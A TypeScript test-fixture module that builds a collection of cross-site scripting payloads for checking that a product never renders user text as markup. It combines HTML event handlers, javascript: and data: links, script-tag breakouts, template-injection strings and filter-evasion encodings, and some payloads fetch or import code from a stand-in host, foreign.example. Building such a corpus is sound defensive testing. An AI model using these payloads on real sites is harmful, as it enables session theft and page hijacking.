/** Texts that would run a script or load something foreign if any part of the product treated them as markup. */

/** The action of a payload. The tests detect each: a dialog, a call, a request. */
const ACTIONS = [
  'alert(1)',
  'taken()',
  "fetch('//foreign.example/x')",
  'import("//foreign.example/x")',
];

const EVENTS: readonly [tag: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['img src=/mark.svg', 'onload'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['div style="animation:x 1s"', 'onanimationstart'],
  ['div contenteditable autofocus', 'onfocus'],
  ['p', 'onmouseover'],
  ['x tabindex=1', 'onfocusin'],
  ['form><button formaction=javascript:taken()', 'onclick'],
];

/** Spellings of the same element that a filter may not recognize. */
const SPELLINGS: readonly ((tag: string, event: string, action: string) => string)[] = [
  (tag, event, action) => `<${tag} ${event}="${action}">`,
  (tag, event, action) => `<${tag.toUpperCase()} ${event.toUpperCase()}='${action}'>`,
  (tag, event, action) => `<${tag}/${event}=${action.replaceAll(/[ "]/g, '')}//`,
  (tag, event, action) => `"><${tag} ${event}="${action}" x="`,
  (tag, event, action) => `'><${tag}\t${event} = "${action}">`,
  (tag, event, action) => `<${tag} ${event}="${entities(action)}">`,
  (tag, event, action) => `&lt;${tag} ${event}="${action}"&gt;`,
  (tag, event, action) => encodeURIComponent(`<${tag} ${event}="${action}">`),
];

const SCHEMES = [
  'javascript:ACTION',
  'JaVaScRiPt:ACTION',
  'java\tscript:ACTION',
  'javascript&colon;ACTION',
  '&#106;avascript:ACTION',
  '\u0001javascript:ACTION',
  'javascript://https://a.example/%0aACTION',
  'vbscript:ACTION',
  'data:text/html,<script>ACTION</script>',
  'data:image/svg+xml,<svg onload=ACTION>',
  'blob:ACTION',
  'https://a.example/"onmouseover="ACTION',
  "https://a.example/'onmouseover='ACTION",
  'mailto:a@b.example?subject="><img src=x onerror=ACTION>',
];
const IN_LINKS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `[x](${address})`,
  (address) => `[x]: ${address}`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `<iframe src="${address}"></iframe>`,
];

const OTHERS: readonly string[] = [
  '<script>ACTION</script>',
  '</script><script>ACTION</script>',
  '<script src=//foreign.example/x.js></script>',
  '<scr<script>ipt>ACTION</scr</script>ipt>',
  '</textarea><script>ACTION</script>',
  '</title><script>ACTION</script>',
  '</style><script>ACTION</script>',
  '<!--><script>ACTION</script>-->',
  '<![CDATA[<script>ACTION</script>]]>',
  '<svg><script>ACTION</script></svg>',
  '<math><mtext><script>ACTION</script></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ACTION&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=ACTION>">',
  '<template><script>ACTION</script></template>',
  '<iframe srcdoc="<script>ACTION</script>"></iframe>',
  '<base href=//foreign.example/>',
  '<meta http-equiv=refresh content="0;url=//foreign.example/">',
  '<link rel=stylesheet href=//foreign.example/x.css>',
  '<link rel=prefetch href=//foreign.example/x>',
  '<style>@import "//foreign.example/x.css"</style>',
  '<p style="background:url(//foreign.example/x)">',
  '<img src=//foreign.example/x>',
  '![x](//foreign.example/x.png)',
  '<img srcset="//foreign.example/x 1x">',
  '<video poster=//foreign.example/x>',
  '<object data=//foreign.example/x></object>',
  '<form action=//foreign.example/><input autofocus onfocus=ACTION></form>',
  '${ACTION}',
  '{{constructor.constructor("ACTION")()}}',
  '#{ACTION}',
  '<%= ACTION %>',
  '`${ACTION}`',
  '\u2028<script>ACTION</script>',
  '＜script＞ACTION＜/script＞',
  '\uFEFF<script>ACTION</script>',
  '+ADw-script+AD4-ACTION+ADw-/script+AD4-',
];

/** Every character as a numeric character reference, which a browser reads as the same text. */
const entities = (text: string): string =>
  Array.from(text, (character, place) => {
    const code = character.codePointAt(0)!;
    return place % 2 === 0 ? `&#${code};` : `&#x${code.toString(16)};`;
  }).join('');

/** Combines every class with every spelling; actions alternate. All are single lines, and all differ. */
export function payloads(): string[] {
  let turn = 0;
  const action = (): string => ACTIONS[turn++ % ACTIONS.length]!;
  const all = [
    ...EVENTS.flatMap(([tag, event]) => SPELLINGS.map((spell) => spell(tag, event, action()))),
    ...SCHEMES.flatMap((scheme) =>
      IN_LINKS.flatMap((write) =>
        ACTIONS.slice(0, 2).map((what) => write(scheme.replace('ACTION', what))),
      ),
    ),
    ...OTHERS.flatMap((text) => ACTIONS.map((what) => text.replaceAll('ACTION', what))),
  ];
  return [...new Set(all)];
}
